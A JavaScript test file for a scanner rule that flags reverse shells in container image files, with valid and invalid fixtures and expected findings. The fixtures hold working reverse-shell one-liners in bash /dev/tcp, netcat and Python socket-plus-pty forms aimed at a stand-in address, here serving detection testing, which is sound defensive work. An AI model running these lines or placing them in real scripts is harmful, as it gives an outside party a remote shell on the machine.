import { testRule } from '../../testing/rule-tester.js';
import rule from './image-reverse-shell.js';

testRule(rule, {
  valid: [
    { name: 'plain cron', path: 'etc/crontabs/root', content: '*/15 * * * * run-parts /etc/periodic/15min\n' },
    { name: 'a cheat sheet in documentation', path: 'usr/share/doc/tools/README.md', content: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n' },
    {
      name: 'a health probe over /dev/tcp without a shell',
      path: 'health.sh',
      content: '#!/bin/bash\nexec 3<>/dev/null\ntimeout 1 bash -c "</dev/tcp/localhost/8000"\n',
    },
  ],
  invalid: [
    {
      path: 'entrypoint.sh',
      content: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nnc 203.0.113.7 4444 -e /bin/sh\n',
      findings: [
        { startLine: 2, startColumn: 1, endLine: 2, endColumn: 37, message: 'Reverse shell: interactive shell redirected to /dev/tcp' },
        { startLine: 3, startColumn: 1, endLine: 3, endColumn: 31, message: 'Reverse shell: netcat running a shell for the remote end' },
      ],
    },
    {
      path: 'app/update.py',
      content:
        'import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\n',
      findings: [{ startLine: 2, startColumn: 3, endLine: 2, endColumn: 115, message: 'Reverse shell: Python socket wired to a shell' }],
    },
  ],
});
